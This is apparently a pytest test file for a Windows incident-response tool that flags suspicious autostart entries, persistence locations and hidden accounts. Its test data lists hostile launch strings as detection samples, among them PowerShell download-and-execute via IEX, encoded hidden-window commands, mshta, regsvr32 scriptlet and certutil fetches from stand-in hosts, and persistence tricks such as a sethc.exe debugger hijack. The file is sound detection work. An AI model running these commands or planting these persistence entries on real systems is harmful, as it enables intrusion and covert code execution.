"""What speaks against autostart entries, and what does not."""

import pytest

from responder.analysis import autostart_signs, launch_signs
from responder.analysis.engine import analyse
from responder.case.triage import TriageRequest, triage
from responder.model.finding import Severity
from responder.model.host import FactRecord
from responder.model.autostart import AutostartRecord
from tests.responder.analysis.conftest import WINDOWS_10, autostart, ref

RUN_KEY = r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"


@pytest.fixture
def look(samples, tmp_path):
    def run(name):
        request = TriageRequest(
            paths=(str(samples / name),), index_path=str(tmp_path / "x.index"), scratch=str(tmp_path)
        )
        return triage(request).analysis

    return run


BASE64 = "SQBFAFgAIAAnAG0AYQByAGsAZQByACcA"


@pytest.mark.parametrize(
    ("command", "word"),
    [
        (f"powershell.exe -nop -w hidden -enc {BASE64}", "hidden window"),
        (f"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -e {BASE64}", "encoded"),
        (f"cmd.exe /c start powershell -EncodedCommand {BASE64}", "encoded"),
        ("powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://e/x')\"", "network"),
        ("mshta http://e/x.hta", "mshta fetches"),
        ('mshta vbscript:Close(Execute("x"))', "stands in the entry"),
        ("regsvr32 /s /n /u /i:C:\\x.sct scrobj.dll", "scriptlet"),
        ('rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";x', "script that stands"),
        ("certutil -urlcache -f https://e/x x.exe", "certutil fetches"),
        ("wscript.exe C:\\Users\\a\\AppData\\Roaming\\u.vbs", "script in a user's folder"),
        ("cmd /c echo x > C:\\y & start C:\\z.exe", "chain"),
    ],
)
def test_signs_of_launch_strings(command, word):
    assert any(word in words for words, _ in launch_signs.signs(command)), launch_signs.signs(command)


@pytest.mark.parametrize(
    "command",
    [
        '"C:\\Users\\a\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
        'C:\\Windows\\system32\\cmd.exe /q /c del /q "C:\\Users\\a\\AppData\\Local\\Microsoft\\OneDrive\\Setup.exe"',
        'C:\\Windows\\system32\\cmd.exe /q /c rmdir /s /q "C:\\Users\\a\\x"',
        "%windir%\\system32\\rundll32.exe shell32.dll,Control_RunDLL",
        "C:\\Program Files\\Vendor\\v.exe --url https://update.vendor.example",
        'powershell.exe -ExecutionPolicy Bypass -File "C:\\Program Files\\V\\u.ps1"',
        "powershell.exe -NoProfile -WindowStyle Normal -Command Get-Date",
        "%SystemRoot%\\system32\\svchost.exe -k netsvcs -p",
        "C:\\Windows\\System32\\regsvr32.exe /s /n /i:U shell32.dll",
        "autocheck autochk *",
        "",
    ],
)
def test_ordinary_launch_strings_are_quiet(command):
    assert launch_signs.signs(command) == []


def entry(name, path, technique, category="Logon", **fields):
    fields.setdefault("command", path)
    return autostart(1, name, path, technique=technique, category=category, **fields)


@pytest.mark.parametrize(
    ("record", "word", "weight"),
    [
        (entry("Shell", "C:\\Program Files\\x.exe", "T1547.004", "Winlogon"), "more than Windows", Severity.HIGH),
        (entry("BootExecute", "evil.exe", "T1547.001", "Boot Execute"), "more than Windows", Severity.HIGH),
        (entry("x", "C:\\Windows\\System32\\c.dll", "T1546.009", "AppInit"), "AppCertDlls", Severity.HIGH),
        (entry("h", "C:\\ProgramData\\h.dll", "T1546.007", "Network Providers"), "netsh helper", Severity.HIGH),
        (entry("p", "C:\\Users\\a\\n.dll", "T1556.008", "Network Providers"), "network provider", Severity.HIGH),
        (entry("Security Packages", "C:\\Windows\\System32\\mimilib.dll", "T1547.005", "LSA Providers"),
         "sees passwords", Severity.MEDIUM),
        (entry("s", "C:\\Users\\a\\s.dll", "T1543.003", "Services", command="svchost.exe -k netsvcs (s.dll)"),
         "shared service", Severity.HIGH),
        (entry("\\T", "C:\\Windows\\x.exe", "T1053.005", "Scheduled Tasks", verdict="hidden", verdict_reason="no list shows it"),
         "no list shows it", Severity.HIGH),
        (entry("Startup", "C:\\evil", "T1547.001", location="HKCU\\…\\User Shell Folders"), "was moved", Severity.MEDIUM),
    ],
)  # fmt: skip
def test_signs_of_places(record, word, weight):
    found = autostart_signs.signs(record)
    assert any(word in words and severity is weight for words, severity in found), found


@pytest.mark.parametrize(
    "record",
    [
        entry("Shell", "C:\\Windows\\explorer.exe", "T1547.004", "Winlogon"),
        entry("Userinit", "C:\\Windows\\system32\\userinit.exe", "T1547.004", "Winlogon"),
        entry("BootExecute", "C:\\Windows\\System32\\autochk.exe", "T1547.001", "Boot Execute"),
        entry("AlternateShell", "C:\\Windows\\System32\\cmd.exe", "T1547", "Boot Execute"),
        entry("Security Packages", "C:\\Windows\\System32\\kerberos.dll", "T1547.005", "LSA Providers"),
        entry("VBoxSF", "C:\\Windows\\System32\\VBoxMRXNP.dll", "T1556.008", "Network Providers"),
        entry("AppInit_DLLs", "C:\\x.dll", "T1546.010", "AppInit", enabled="no"),
    ],
)
def test_ordinary_places_are_quiet(record):
    assert autostart_signs.signs(record) == []


def test_clearing_up_after_an_installation_is_no_finding(lab):
    rows = [autostart(1, "Delete Cached", "C:\\Windows\\System32\\cmd.exe",
                      command='C:\\Windows\\system32\\cmd.exe /q /c del /q "C:\\Users\\a\\x.exe"')]  # fmt: skip
    assert lab.findings("autostart.suspect", {"auto": rows}) == []


def test_accounts_that_hide(lab):
    def fact(line, name, detail):
        return FactRecord(
            source=ref("sam", line), category="account", name=name, value="relative id 1001; enabled", detail=detail
        )

    rows = [
        fact(1, "help$", "its record carries the relative id 500: it logs on as that account"),
        fact(2, "Chief", "the built-in Administrator goes by another name"),
        FactRecord(source=ref("sam", 3), category="account", name="bob", value="enabled"),
    ]
    found = {f.facts["account"]: f.severity for f in lab.findings("account.peculiar", {"sam": rows})}
    assert found == {"help$": Severity.HIGH, "Chief": Severity.INFO}


@pytest.mark.samples
@pytest.mark.parametrize(
    "path",
    ["registry/regipy_SYSTEM_2", "registry/regipy_SAM", "registry/plaso_NTUSER.DAT", "registry/regipy_NTUSER.DAT",
     "kape/Shellbags_Win10/tout"],
)  # fmt: skip
def test_hives_of_clean_hosts_are_quiet(look, path):
    assert [(f.rule_id, f.title) for f in look(path).findings if f.severity >= Severity.MEDIUM] == []


@pytest.mark.samples
def test_persistence_of_the_synthetic_hive_and_the_attacked_host(look):
    found = {
        f.facts["entry"] for f in look("registry/SYNTH_SOFTWARE_persistence").findings if f.severity >= Severity.HIGH
    }
    assert found == {"WindowsUpdateCheck", "Encoded", "!cleanup", "sethc.exe", "AppInit_DLLs", "Shell", "Userinit"}
    tasks = look("hosts/WIN-FUDU2CKJOE8_APTSimulator/C/Windows/System32/Tasks").findings
    assert {f.facts["entry"] for f in tasks if f.severity >= Severity.HIGH} == {"\\GameOver", "\\falshupdate22"}


def verdicts(lab, **fields):
    entry = AutostartRecord(source=ref("start", 1), **{"category": "Logon", "location": RUN_KEY, "entry": "x", **fields})
    index = lab.index({"start": [entry]}, (WINDOWS_10,))
    result, rows = analyse(index)
    found = [f.severity for f in result.findings if f.rule_id == "autostart.suspect"]
    return *next(iter(rows["autostarts"].values()), ("", "")), found


POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"


def test_the_signature_of_a_shell_does_not_vouch_for_what_it_runs(lab):
    command = POWERSHELL + " -w hidden -c iex((New-Object Net.WebClient).DownloadString('http://a/b'))"
    verdict, reason, found = verdicts(
        lab, command=command, process_path=POWERSHELL, signer="Microsoft Windows", sha256="0" * 64
    )
    assert verdict == "unknown"
    assert "hidden window" in reason
    assert found == [Severity.HIGH]


def test_sticky_keys_stay_grave_though_the_shell_is_signed(lab):
    place = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe"
    verdict, _, found = verdicts(
        lab, category="Image Hijacks", location=place, entry="sethc.exe", command="cmd.exe",
        process_path=r"C:\Windows\System32\cmd.exe", signer="Microsoft Windows",
    )  # fmt: skip
    assert (verdict, found) == ("unknown", [Severity.HIGH])


def test_an_ordinary_signed_entry_is_known(lab):
    path = r"C:\Program Files\Vendor\agent.exe"
    assert verdicts(lab, command=path, process_path=path, signer="Vendor Ltd") == (
        "known", "its signature is valid: Vendor Ltd", [],
    )  # fmt: skip


def test_a_hidden_task_stays_hidden_whatever_its_program_is(lab):
    path = r"C:\Program Files\Vendor\agent.exe"
    verdict, _, found = verdicts(
        lab, category="Scheduled Tasks", command=path, process_path=path, signer="Vendor Ltd", verdict="hidden"
    )
    assert verdict == ""  # the word of the reader of the task cache is left as it is
    assert found == [Severity.HIGH]
